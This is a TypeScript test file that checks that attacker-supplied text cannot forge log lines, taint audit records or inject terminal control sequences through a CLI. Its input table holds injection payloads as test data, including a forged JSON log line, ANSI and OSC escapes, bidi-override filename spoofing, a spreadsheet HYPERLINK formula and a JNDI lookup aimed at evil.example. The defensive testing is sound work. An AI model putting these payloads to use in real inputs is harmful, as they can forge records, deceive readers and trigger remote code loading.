// Text that fools whoever reads it: one event is one line, a terminal shows what it was given, and a record says what happened (A117).

import { createServer, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { endpoints } from '@credence/authority'
import { newId } from '@credence/protocol'
import type { Command } from 'commander'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { program } from '../../packages/cli/src/program.ts'
import { run } from '../../packages/cli/src/run.ts'
import { call, startTestAuthority, type TestAuthority, type TestOrganization } from '../authority.ts'
import { post } from '../cast.ts'
import { Chance, newSeed } from '../faults/chance.ts'
import { queryOf, type Row, urlOf } from './fitting.ts'
import { sendRaw } from './raw.ts'
import { Sender } from './sender.ts'
import { thingsIn, type World, worldOf } from './world.ts'

const mark = 'k4n4ry'
/** Each with a mark in it, to be found wherever it gets. */
const texts: Record<string, string> = {
  'a line of its own': `${mark}\r\n{"level":"error","msg":"${mark} forged"}`,
  'a line break': `a\n${mark}`,
  'another line break': `a\u2028${mark}\u2029\u0085`,
  'colours and a cleared screen': `\u001b[2J\u001b[31m${mark}\u001b[0m`,
  'a title and a link': `\u001b]0;${mark}\u0007\u001b]8;;http://evil.example\u0007x`,
  'eight-bit sequences': `\u009b31m${mark}\u009d`,
  'text that turns around': `${mark}\u202egpj.exe\u2066\u2069\u200f\u061c`,
  'letters that are not seen': `${mark}\u200b\u200d\ufeff\u00ad`,
  'NUL, backspaces and a bell': `${mark}\u0000\u0008\u0008\u0007\u007f`,
  'half a pair': `${mark}\ud800`,
  'a formula': `=HYPERLINK("http://evil.example","${mark}")`,
  'a quote and what follows': `${mark}","status":200,"x":"`,
  'a template': `\${${mark}} %s %o {{${mark}}} \${jndi:ldap://evil.example}`,
  'very much': `${mark}${'x'.repeat(30_000)}`,
}

/** What fools a terminal or a reader: controls, line separators, what turns text around. A line ends with the one line feed. */
const fooling = /[\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u

const seed = newSeed()
const chance = new Chance(seed)
const isLong = process.env.CREDENCE_LONG === '1'
/** Always: what a terminal obeys, what a log would take for a line, what a reader sees in another order. */
const always = ['a line of its own', 'colours and a cleared screen', 'text that turns around']
const another = chance.pick(Object.keys(texts).filter((what) => !always.includes(what)))
const drawn = Object.entries(texts).filter(([what]) => isLong || what === another || always.includes(what))

let authority: TestAuthority
let acme: World
let sender: Sender

beforeAll(async () => {
  authority = await startTestAuthority({ organizations: ['acme', 'initech'], settings: { failuresPerMinute: 0 } })
  acme = await worldOf(authority.organizations.acme as TestOrganization)
  sender = new Sender(authority.origin, acme, authority.organizations.initech?.id ?? '')
})
afterAll(() => authority.stop())

const secretFor = ({ door }: Row) =>
  door === 'installation' ? authority.installationSecret : acme.organization.administratorSecret
const fields = ['level', 'time', 'msg', 'route', 'status', 'refusal', 'ms', 'trace_id', 'organization', 'err']

/** What may be logged of one request: one line, of known fields, with nothing in it that came. */
function soundLines(lines: string[]): void {
  for (const line of lines) {
    expect(line.endsWith('\n')).toBe(true)
    const text = line.slice(0, -1)
    expect(fooling.exec(text)?.[0]).toBeUndefined()
    expect(text).not.toContain(mark)
    expect(Object.keys(JSON.parse(text)).filter((name) => !fields.includes(name))).toEqual([])
    expect(text.length).toBeLessThan(4_000)
  }
}

/** Does something, looks at what is logged of it, and says how many requests that tells of. */
async function requestsLogged(work: () => Promise<unknown>): Promise<number> {
  const before = authority.log.length
  await work()
  const written = authority.log.slice(before)
  soundLines(written)
  return written.filter((line) => JSON.parse(line).msg === 'request').length
}

/** Does something that is one request, and looks at what is logged of it. */
async function logged(work: () => Promise<unknown>): Promise<void> {
  expect(await requestsLogged(work)).toBe(1)
}

describe.each(drawn)(`FAULT_SEED=${seed}: %s`, (_what, text) => {
  test('in any member, parameter or place of a path is one line of the log, and the text is not in it', async () => {
    for (const row of endpoints) {
      const things = thingsIn(row, acme, authority.organizations.initech?.id)
      const url = urlOf(row, { origin: authority.origin, issuer: acme.organization.issuer }, things)
      const headers = { authorization: `Bearer ${secretFor(row)}` }
      const { query = {}, body } = sender.valuesFor(row)
      const method = row.method.toUpperCase()
      // More would be refused before there is a request.
      const escaped = encodeURIComponent(text.toWellFormed().slice(0, 2_000))
      const members = Object.keys(row.body?.shape ?? {})
      if (row.bodyType === 'form') {
        const filled = Object.fromEntries(members.map((name) => [name, text.toWellFormed()]))
        await logged(() => post(url, new URLSearchParams({ ...(body as object), ...filled, [text]: text })))
      } else if (body) {
        const filled = { ...body, ...Object.fromEntries(members.map((name) => [name, text])), [text]: text }
        await logged(() => call(secretFor(row), method, `${url}${queryOf(query)}`, filled))
      }
      const search = row.query ? Object.keys(row.query.shape).map((name) => `${name}=${escaped}`) : ['x=1']
      for (const parameter of [...search, `${escaped}=${escaped}`]) {
        await logged(async () => (await fetch(`${url}?${parameter}`, { method, headers })).text())
      }
      if (row.params) {
        const place = `${url.slice(0, url.indexOf('/v1/'))}/v1/${escaped}`
        await logged(async () => (await fetch(`${place}/${escaped}`, { method, headers })).text())
      }
    }
  }, 120_000)

  test('in headers, methods and versions is at most one line, and the text is not in it', async () => {
    const names = [
      'user-agent',
      'referer',
      'x-forwarded-for',
      'traceparent',
      'tracestate',
      'baggage',
      'cookie',
      'origin',
    ]
    const bytes = Buffer.from(text).toString('latin1')
    const url = `${acme.organization.issuer}/v1/people`
    const loggedAtMostOnce = async (head: string) =>
      expect(
        await requestsLogged(() => sendRaw(authority.settings.port, Buffer.from(head, 'latin1'))),
      ).toBeLessThanOrEqual(1)
    for (const name of [...names, 'authorization', 'dpop', 'content-type', 'accept']) {
      const head = `GET ${new URL(url).pathname} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n${name}: ${bytes}\r\n\r\n`
      await loggedAtMostOnce(head)
    }
    for (const start of [`${bytes} / HTTP/1.1`, `GET /${bytes} HTTP/1.1`, `GET / HTTP/1.1${bytes}`]) {
      await loggedAtMostOnce(`${start}\r\nHost: localhost\r\nConnection: close\r\n\r\n`)
    }
  })

  test('is in no leaf of the audit log, whether what it came with was done or refused', async () => {
    const { organization, ada, operator, cast, docs } = acme
    const handle = `agent-${crypto.randomUUID()}`
    const audience = `https://${crypto.randomUUID()}.example/`
    const asked = [
      ['/v1/people', { name: text }],
      ['/v1/administrators', { name: text }],
      ['/v1/agents', { handle, owner: ada.id, purpose: text }],
      ['/v1/resources', { audience, name: text, scopes: ['docs:read'] }],
      ['/v1/revocations', { id: newId('tok'), cause: text }],
      ['/v1/revocations', { id: `task:${text}`, cause: 'test' }],
    ] as const
    for (const [path, body] of asked) await organization.api('post', path, body)
    for (const more of [{ task: text }, { session: text }, { scope: text }, { resource: text }]) {
      await cast.ask(operator, { grant_type: 'client_credentials', resource: docs, ...more })
    }
    let seen = 0
    for (let after: number | undefined = -1; after !== undefined; ) {
      const { body } = await acme.organization.api('get', `/v1/audit/records?after=${after}&limit=500`)
      for (const { leaf_bytes } of body.records) {
        const leaf = Buffer.from(leaf_bytes, 'base64url').toString()
        expect([leaf, leaf.includes(mark), fooling.exec(leaf)?.[0]]).toEqual([leaf, false, undefined])
      }
      seen += body.records.length
      after = body.next_after
    }
    expect(seen).toBeGreaterThan(asked.length)
  })
})

describe('the command line, whatever an authority answers', () => {
  type Schema = z.core.JSONSchema.BaseSchema
  /** How an authority answers that means ill. */
  const manners = ['proper', 'wild', 'refusing'] as const

  /** What the schema of an answer allows, with this text wherever there is text; `wild`: and where numbers should be. */
  function filled(schema: Schema, text: string, wild: boolean, depth = 0): unknown {
    if (schema.anyOf) return filled(schema.anyOf[0] as Schema, text, wild, depth)
    if (schema.const !== undefined) return schema.const
    switch (schema.type) {
      case 'string':
        return text
      case 'number':
      case 'integer':
        return wild ? text : 1
      case 'boolean':
        return true
      case 'array':
        return [filled(schema.items as Schema, text, wild, depth + 1)]
      case 'object':
      case undefined: {
        const members = Object.entries((schema.properties ?? {}) as Record<string, Schema>)
        const all = members.map(([name, member]) => [name, filled(member, text, wild, depth + 1)] as const)
        return Object.fromEntries(depth > 6 ? [] : [...all, [text, text]])
      }
      default:
        return text
    }
  }

  const matching = (method: string, path: string) =>
    endpoints.find((row) => {
      const pattern = new RegExp(`^${row.path.replaceAll(/\{\w+\}/g, '[^/]+')}$`)
      return row.method === method.toLowerCase() && pattern.test(path)
    })

  /** An authority that answers as its table says it may, with one text everywhere. */
  async function hostile(text: string, manner: (typeof manners)[number]) {
    const server = createServer((incoming, outgoing) => {
      const path = new URL(incoming.url ?? '', 'http://localhost').pathname
      const row = matching(incoming.method ?? '', path)
      const [, answer] = Object.entries(row?.answers ?? {}).find(([status]) => status.startsWith('2')) ?? []
      const schema = answer?.schema && z.toJSONSchema(answer.schema, { io: 'output', unrepresentable: 'any' })
      const {
        next_cursor: _,
        next_after: __,
        ...body
      } = (schema ? filled(schema, text, manner === 'wild') : {}) as Record<string, unknown>
      const origin = `http://localhost:${(server.address() as AddressInfo).port}`
      const discovered = path.startsWith('/.well-known') && { ...body, issuer: origin, jwks_uri: `${origin}/jwks` }
      const refusal = { title: text, detail: text, code: text, hint: text, error: text, error_description: text }
      outgoing.writeHead(manner === 'refusing' ? 422 : 200, { 'content-type': 'application/json' })
      outgoing.end(JSON.stringify(manner === 'refusing' ? refusal : discovered || body))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    return {
      url: `http://localhost:${port}`,
      stop: () => new Promise((resolve) => server.close(resolve).closeAllConnections()),
    }
  }

  const terminal = (env: NodeJS.ProcessEnv, said: string[]) => ({
    env,
    write: (line: string) => void said.push(line),
    note: (line: string) => void said.push(line),
    colour: false,
    columns: 120,
    untilStopped: () => Promise.resolve(),
    readStandardInput: async () => '',
  })

  /** The words of every command that asks an authority, with something for each of its arguments. */
  function* commandLines(command: Command, words: string[] = []): Generator<string[]> {
    for (const child of command.commands) yield* commandLines(child, [...words, child.name()])
    const starts = ['dev', 'start', 'init'].includes(words[0] ?? '')
    if (command.commands.length > 0 || starts || words.length === 0) return
    const given = command.registeredArguments.map((argument) =>
      /file/.test(argument.name()) ? '/nonexistent' : newId('agt'),
    )
    const options = command.options.filter(({ mandatory }) => mandatory)
    const needed = options.flatMap((option) => [
      option.long ?? '',
      /file|key|secret/.test(option.name()) ? '/nonexistent' : 'x',
    ])
    const follow = command.options.some(({ long }) => long === '--no-follow') ? ['--no-follow'] : []
    yield [...words, ...given, ...needed, ...follow]
  }

  const lines = [...commandLines(program(terminal({}, [])))]
  const shown = drawn.filter(([what]) => what !== 'very much' && what !== 'half a pair')

  test.each(shown)(
    '%s: shows it as it is, and only in lines of its own making',
    async (_what, text) => {
      for (const manner of manners) {
        const { url, stop } = await hostile(text, manner)
        const env = { CREDENCE_CLI_ISSUER: url, CREDENCE_CLI_SECRET: 'x', HOME: '/nonexistent' }
        try {
          for (const words of lines) {
            for (const form of [[], ['--json']]) {
              const said: string[] = []
              await run([...words, ...form], terminal(env, said))
              const output = said.join('')
              const found = fooling.exec(output.replaceAll('\n', ''))?.[0]
              expect([manner, words, found]).toEqual([manner, words, undefined])
              // A line that is all of what came would pass for one of ours.
              expect([words, output.split('\n').some((line) => line.startsWith(`{"level":"error"`))]).toEqual([
                words,
                false,
              ])
            }
          }
        } finally {
          await stop()
        }
      }
    },
    120_000,
  )

  test('every command was asked for', () => {
    expect(lines.length).toBeGreaterThan(30)
  })
})

test('a header that is no text does not end in a log line of its own', async () => {
  const before = authority.log.length
  const sent = request({
    port: authority.settings.port,
    path: '/healthz',
    headers: { 'x-a': Buffer.from([0xe9, 0xff]).toString('latin1') },
  })
  await new Promise((resolve) => sent.on('response', (answer) => answer.resume().on('end', resolve)).end())
  soundLines(authority.log.slice(before))
})
